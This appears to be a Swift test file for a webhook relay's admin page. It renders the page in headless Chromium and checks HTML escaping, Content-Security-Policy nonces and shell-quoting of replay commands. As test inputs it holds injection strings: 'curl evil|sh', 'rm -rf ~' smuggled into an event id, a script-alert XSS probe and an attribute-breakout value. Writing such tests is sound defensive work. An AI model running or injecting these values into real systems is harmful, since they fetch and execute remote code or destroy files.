import Foundation
import HookrelayCore
@testable import HookrelayRuntime
@testable import HookrelayStore
import HookrelayTestSupport
import Testing

/// `GET /admin` as an operator sees it (SPEC §7): rendered by a real headless Chromium, against
/// an in-process relay whose destination is a real loopback sink answering 500, so the failure
/// row on the page comes from a real failed delivery.
@Suite("AdminPageBrowser")
struct AdminPageBrowserTests {
    /// An event id with markup, an ampersand and a quote: it must come out as text, everywhere.
    static let hostileID = "evt-<i>html</i>&'x'"

    // Skipped only when there is no Chromium binary at all (script/setup-tests installs Debian's
    // `chromium`), and never in CI (`RequiredTool`); any failure to run an existing one fails the test.
    @Test(
        "headless Chromium shows the failure row (destination, URL, HTTP 500) and dead: 1",
        .enabled(if: RequiredTool.runs(HeadlessChromium.path != nil), "no chromium binary: run script/setup-tests (apt-get install chromium) or set HOOKRELAY_CHROMIUM"),
        .timeLimit(.minutes(2))
    )
    func failureRowInBrowser() async throws {
        try RequiredTool.require(HeadlessChromium.path != nil, "no chromium binary: run script/setup-tests (apt-get install chromium) or set HOOKRELAY_CHROMIUM")
        let failing = try await SinkServer.start(.status(500))
        let healthy = try await SinkServer.start(.status(200))
        defer { Task { await failing.stop(); await healthy.stop() } }
        let partnerURL = failing.url("/hooks/partner?tag=a&b=c")
        let partnerShown = partnerURL.replacingOccurrences(of: "&", with: "&amp;")
        let config = DeliveryTests.destination("partner", partnerURL, retry: "[]")
            + DeliveryTests.destination("crm", healthy.url("/crm"), retry: "[]")
            + DeliveryTests.route(["partner", "crm"])
        try await withRelay(config: config) { relay in
            #expect(try await relay.send(relay.mailgun.json(id: Self.hostileID, event: "failed")).status == 200)
            let record = try await DeliveryTests.settled(relay, Self.hostileID)
            #expect(Dictionary(uniqueKeysWithValues: record.deliveries.map { ($0.destination, $0.state) }) == ["partner": "dead", "crm": "delivered"])

            let browser = try HeadlessChromium()
            defer { browser.remove() }
            let pageURL = "http://127.0.0.1:\(relay.adminPort)/admin"
            let run = try await browser.run(["--dump-dom", pageURL])
            #expect(run.finishedInTime, "chromium did not finish within its time limit; stderr:\n\(run.stderr.suffix(2000))")
            #expect(run.status == 0, "chromium exit status \(run.status); stderr:\n\(run.stderr.suffix(2000))")
            #expect(run.leftovers.isEmpty, "chromium processes still running after it exited: \(run.leftovers)")
            let dom = run.stdout
            try #require(dom.contains("<h1>hookrelay</h1>"), "not the admin page:\n\(dom.prefix(2000))")

            // The failure log row of the dead delivery, like Mailgun's "Failure logs" tab.
            let failureRows = Self.rows(in: Self.element(dom, from: #"<table id="failures">"#, to: "</table>"))
            let row = try #require(failureRows.first { $0.contains("<td>partner</td>") }, "no failure row for partner in:\n\(dom)")
            #expect(row.contains(#"class="failure dead""#))
            #expect(row.contains(#"<td>partner</td><td class="url">\#(partnerShown)</td>"#), "the destination's name and URL, as text:\n\(row)")
            #expect(row.contains("<b>HTTP 500</b>"))
            #expect(row.contains("sink says 500"), "the response snippet")
            #expect(row.contains(#"<td class="bad">dead</td>"#))
            #expect(!failureRows.contains { $0.contains("<td>crm</td>") }, "a delivered destination has no failure row")

            // Per-destination counts.
            let partner = Self.element(dom, from: #"<tr data-destination="partner">"#, to: "</tr>")
            #expect(partner.contains(#"<td>partner</td><td class="url">\#(partnerShown)</td>"#), "\(partner)")
            #expect(partner.contains(#"data-state="dead">1</td>"#), "dead: 1 for partner in:\n\(partner)")
            #expect(partner.contains(#"data-state="delivered">0</td>"#))
            #expect(partner.contains(#"data-state="retrying">0</td>"#))
            let crm = Self.element(dom, from: #"<tr data-destination="crm">"#, to: "</tr>")
            #expect(crm.contains(#"data-state="delivered">1</td>"#), "delivered: 1 for crm in:\n\(crm)")
            #expect(crm.contains(#"data-state="dead">0</td>"#))
            #expect(Self.element(dom, from: #"<div class="card" id="queue-depth">"#, to: "</div></div>").contains(#"<div class="value">0</div>"#))

            // Escaping: the id is text in the browser's DOM, never markup.
            #expect(!dom.contains("<i>html</i>"), "the event id was parsed as HTML")
            #expect(row.contains("evt-&lt;i&gt;html&lt;/i&gt;&amp;'x'"))

            // The replay button: enabled by the inline script (so the CSP nonce let it run), and
            // what it would POST replays the event.
            let button = Self.element(row, from: "<button", to: "</button>")
            #expect(button.contains(#"data-replay="event""#))
            #expect(!button.contains("disabled"), "the inline script did not run: \(button)")
            let eventID = try #require(Self.attribute("data-event-id", in: button))
            #expect(eventID == Self.hostileID)
            let body = try JSONSerialization.data(withJSONObject: ["event_id": eventID])
            let replay = try await HTTPTestClient.send(.json("/admin/api/replay", Array(body)), port: relay.adminPort)
            #expect(replay.status == 200)
            #expect(replay.json["replayed"] as? Int == 2, "both deliveries of the event: \(replay.text)")
            #expect(await Polling.until { failing.requests.count == 2 }, "the replayed delivery reached the sink again")

            // A look for people: HOOKRELAY_ADMIN_SCREENSHOT=/tmp/admin.png saves the page as a PNG.
            if let screenshot = ProcessInfo.processInfo.environment["HOOKRELAY_ADMIN_SCREENSHOT"], !screenshot.isEmpty {
                let shot = try await browser.run(["--screenshot=\(screenshot)", "--window-size=1200,800", "--hide-scrollbars", pageURL])
                #expect(shot.status == 0 && FileManager.default.fileExists(atPath: screenshot), "no screenshot: \(shot.stderr.suffix(2000))")
            }
        }
    }

    @Test("a quote followed by a combining mark is escaped too: an event id cannot end an attribute")
    func combiningMarkAfterQuote() {
        let id = "x\"\u{301} style=position:fixed a="
        let failure = FailureRecord(
            time: AdminTime.nowMillis(), eventID: id, eventType: "failed", destination: "partner", url: "https://p.example/",
            attempt: 1, status: 500, error: "http", message: nil, response: "", nextAttempt: nil, replay: 0
        )
        let stats = AdminStats(destinations: [], queueDepth: 0, oldestPendingCreatedAt: nil, events: 1, now: AdminTime.nowMillis())
        let page = AdminPage.render(stats: stats, failures: [failure])
        #expect(page.contains("data-event-id=\"x&quot;\u{301} style=position:fixed a=\""))
        #expect(!page.unicodeScalars.split(separator: "\u{301}").dropLast().contains { $0.last == "\"" }, "no raw quote before the mark")
        // The same in the shell command shown to copy: a quote with a mark still closes nothing.
        #expect(AdminPage.shellQuoted("x'\u{301}; curl evil|sh #") == "'x'\\''\u{301}; curl evil|sh #'")
    }

    @Test("with admin_token the page shows replay commands, no buttons or script; hostile text stays text")
    func tokenRequiredShowsCommands() throws {
        let now = AdminTime.nowMillis()
        let stats = AdminStats(
            destinations: [AdminStats.Destination(name: "partner", url: "https://p.example/<h>?a=<b>", counts: ["dead": 2], recentFailures: 2)],
            queueDepth: 0, oldestPendingCreatedAt: nil, events: 1, now: now
        )
        let failure = FailureRecord(
            time: now - 5000, eventID: "e'1; rm -rf ~", eventType: "failed", destination: "partner", url: "https://p.example/<h>?a=<b>",
            attempt: 1, status: 500, error: "http", message: nil, response: "<script>alert(1)</script>", nextAttempt: nil, replay: 0
        )
        let locked = AdminPage.render(stats: stats, failures: [failure], tokenRequired: true)
        #expect(!locked.contains("<button"))
        #expect(!locked.contains("<script"), "no script at all, so nothing from the response can run either")
        #expect(locked.contains("script-src 'none'"))
        #expect(locked.contains("<code>hookrelay replay --event &#39;e&#39;\\&#39;&#39;1; rm -rf ~&#39;</code>"), "the command, shell-quoted")
        #expect(locked.contains("<code>hookrelay replay --destination partner --state dead</code>"))
        #expect(locked.contains("&lt;script&gt;alert(1)&lt;/script&gt;"))
        #expect(locked.contains(#"<td>partner</td><td class="url">https://p.example/&lt;h&gt;?a=&lt;b&gt;</td>"#), "escaped")

        let open = AdminPage.render(stats: stats, failures: [failure])
        #expect(open.contains(#"data-replay="event" data-event-id="e&#39;1; rm -rf ~""#))
        #expect(open.contains(#"data-replay="destination" data-destination="partner""#))
        let nonce = try #require(Self.attribute("nonce", in: Self.element(open, from: "<script", to: ">")))
        #expect(nonce.count == 32)
        #expect(open.contains("script-src 'nonce-\(nonce)'"))
        #expect(AdminPage.render(stats: stats, failures: []).contains("nonce-") && !AdminPage.render(stats: stats, failures: []).contains(nonce),
                "a fresh nonce per page")
    }

    // MARK: - Reading the dumped DOM

    /// The text from the first `from` up to and including the next `to`, or "" when absent.
    static func element(_ text: String, from: String, to: String) -> String {
        guard let start = text.range(of: from), let end = text.range(of: to, range: start.upperBound..<text.endIndex) else { return "" }
        return String(text[start.lowerBound..<end.upperBound])
    }

    /// The `<tr>…</tr>` rows of a table's body.
    static func rows(in table: String) -> [String] {
        table.components(separatedBy: "<tr").dropFirst().map { "<tr" + $0 }.filter { !$0.contains("<th") }
    }

    /// A double-quoted attribute's value, with the entities a serializer writes decoded.
    static func attribute(_ name: String, in element: String) -> String? {
        guard let start = element.range(of: " \(name)=\""), let end = element[start.upperBound...].firstIndex(of: "\"") else { return nil }
        var value = String(element[start.upperBound..<end])
        for (entity, character) in [("&quot;", "\""), ("&#39;", "'"), ("&lt;", "<"), ("&gt;", ">"), ("&nbsp;", "\u{A0}"), ("&amp;", "&")] {
            value = value.replacingOccurrences(of: entity, with: character)
        }
        return value
    }
}

/// Debian's `chromium` (or `HOOKRELAY_CHROMIUM`) run headless as a child process, with its
/// profile and `HOME` in a temporary directory of its own.
struct HeadlessChromium {
    /// The browser binary, or nil when this machine has none.
    static let path: String? = {
        let environment = ProcessInfo.processInfo.environment
        if let explicit = environment["HOOKRELAY_CHROMIUM"], !explicit.isEmpty {
            return FileManager.default.isExecutableFile(atPath: explicit) ? explicit : nil
        }
        let directories = (environment["PATH"] ?? "/usr/bin:/bin").split(separator: ":").map(String.init)
        for name in ["chromium", "chromium-browser", "google-chrome"] {
            for directory in directories {
                let candidate = (directory as NSString).appendingPathComponent(name)
                if FileManager.default.isExecutableFile(atPath: candidate) { return candidate }
            }
        }
        return nil
    }()

    struct Run {
        var finishedInTime: Bool
        var status: Int32
        var stdout: String
        var stderr: String
        /// Processes of this browser (its temporary directory in their command line) still
        /// running a few seconds after it exited; they have been killed.
        var leftovers: [Int32]
    }

    let directory: TemporaryDirectory

    init() throws {
        directory = try TemporaryDirectory(prefix: "hookrelay-chromium")
    }

    func remove() { directory.remove() }

    /// Runs the browser with `arguments` (after the headless flags) to completion. Past `timeout`
    /// it is killed — its process group, which holds its zygotes, renderers and utilities.
    func run(_ arguments: [String], timeout: Duration = .seconds(30)) async throws -> Run {
        let path = try #require(Self.path)
        let name = UUID().uuidString.prefix(8)
        let outPath = directory.file("stdout-\(name)"), errPath = directory.file("stderr-\(name)")
        var environment = ProcessInfo.processInfo.environment
        environment["HOME"] = directory.path // ~/.config, ~/.cache and crash reports stay in the directory
        let process = try ChildProcess(
            executable: path,
            arguments: [
                "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
                "--no-default-browser-check", "--disable-extensions", "--user-data-dir=\(directory.file("profile"))",
            ] + arguments,
            environment: environment, stdout: .file(outPath), stderr: .file(errPath)
        )

        var finished = await Polling.until(timeout: timeout, interval: .milliseconds(50)) { !process.isRunning }
        if !finished {
            // The child starts in a process group of its own: kill the group.
            process.signalGroup(SIGKILL)
            finished = false
            await Polling.until(timeout: .seconds(5)) { !process.isRunning }
        }
        // Helpers outside the group (crashpad handlers start sessions of their own) end on their
        // own shortly after the browser; whatever is left after a few seconds is killed.
        var leftovers: [Int32] = []
        let gone = await Polling.until(timeout: .seconds(10), interval: .milliseconds(100)) {
            leftovers = Self.processes(mentioning: directory.path)
            return leftovers.isEmpty
        }
        if !gone { for leftover in leftovers { kill(leftover, SIGKILL) } }

        return Run(
            finishedInTime: finished,
            status: process.terminationState?.status ?? -1,
            stdout: (try? String(contentsOfFile: outPath, encoding: .utf8)) ?? "",
            stderr: (try? String(contentsOfFile: errPath, encoding: .utf8)) ?? "",
            leftovers: gone ? [] : leftovers
        )
    }

    /// Processes whose command line contains `text`.
    static func processes(mentioning text: String) -> [Int32] {
        let entries = (try? FileManager.default.contentsOfDirectory(atPath: "/proc")) ?? []
        return entries.compactMap { entry -> Int32? in
            guard let pid = Int32(entry), pid != getpid(),
                  let data = FileManager.default.contents(atPath: "/proc/\(entry)/cmdline"),
                  String(decoding: data, as: UTF8.self).contains(text)
            else { return nil }
            return pid
        }
    }
}
